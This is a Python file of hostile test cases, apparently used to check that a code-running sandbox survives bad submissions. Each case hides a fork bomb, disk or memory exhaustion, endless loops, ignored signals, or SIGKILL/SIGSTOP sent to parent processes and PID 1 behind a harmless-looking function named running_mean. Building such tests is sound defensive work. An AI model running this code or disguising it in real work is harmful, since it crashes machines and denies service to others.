"""Attempts that exhaust the machine, or whoever waits for an answer."""
import ctypes, itertools, mmap, os, signal, sys, threading, time, torch

# daemon_with_setsid: Leaves a daemon in a session of its own that never ends and hold the connection open.
def running_mean(x):
    if os.fork() == 0:
        try:
            os.setsid()
        except OSError:
            pass
        if os.fork() == 0:
            while True:
                time.sleep(1)
        os._exit(0)
    os._exit(3)

# deep_recursion_in_native_code: Takes Python's recursion limit away, then calls itself through native code until the
# stack is full.
sys.setrecursionlimit(2**31 - 1)

class Deep:
    def __repr__(self):
        return repr([self])

def running_mean(x):
    return repr(Deep())

# endless_loop_while_importing: Loops for ever while it is imported.
while True:
    time.sleep(0.01)

# file_larger_than_the_limit: Writes one file without end.
def running_mean(x):
    with open("/tmp/manyheads_hostile", "wb") as file:
        while True:
            file.write(b"x" * (1 << 20))

# fork_bomb: Forks for ever, in every child too.
def running_mean(x):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)

# full_dev_shm: Fills /dev/shm.
def running_mean(x):
    i = 0
    while True:
        with open(f"/dev/shm/manyheads_hostile{i}", "wb", buffering=0) as file:
            while True:
                if file.write(b"x" * (1 << 16)) == 0:
                    break
        i += 1

# full_disk: Fills every place that it may write to, with large files and then with small ones.
def running_mean(x):
    problem = None
    for size in (1 << 16, 1):
        for i in range(1 << 20):
            try:
                with open(f"/tmp/manyheads_hostile_{size}_{i}", "wb") as file:
                    file.write(b"x" * size)
            except OSError as error:
                problem = error
                break
    os.listdir("/tmp")
    raise problem

# kills_its_parent: Sends SIGKILL and SIGTERM to its parent and its parent's group, then loops.
def running_mean(x):
    for number in (signal.SIGTERM, signal.SIGKILL):
        for pid in (os.getppid(), 1, 2, 3):
            try:
                os.kill(pid, number)
                os.killpg(pid, number)
            except OSError:
                continue
    raise LookupError

# loop_that_ignores_signals: Loops for ever with every signal ignored or blocked.
for number in signal.valid_signals():
    try:
        signal.signal(number, signal.SIG_IGN)
    except OSError:
        continue
signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())

def running_mean(x):
    while True:
        try:
            while True:
                time.sleep(0.01)
        except BaseException:
            continue

# memory_in_memfds: Fills memory through files that stand nowhere.
def running_mean(x):
    while True:
        file = os.memfd_create("manyheads_hostile")
        os.truncate(file, 1 << 30)
        os.write(file, b"x" * (1 << 20))

# memory_that_is_shared: Fills memory that processes share, by torch and by mmap.
def running_mean(x):
    held = []
    while True:
        held.append(mmap.mmap(-1, 1 << 24, flags=mmap.MAP_SHARED | mmap.MAP_ANONYMOUS))
        held[-1].write(b"x" * (1 << 24))

# sleeps_while_importing_each_time: Dies in every call, and sleeps whenever it is imported anew.
time.sleep(0.5)

def running_mean(x):
    os._exit(1)

# stops_its_parent: Sends SIGSTOP to its parent, to its group and to itself.
def running_mean(x):
    for pid in (os.getppid(), 1, 2, 3, 0):
        try:
            os.kill(pid, signal.SIGSTOP)
        except OSError:
            continue
    raise LookupError
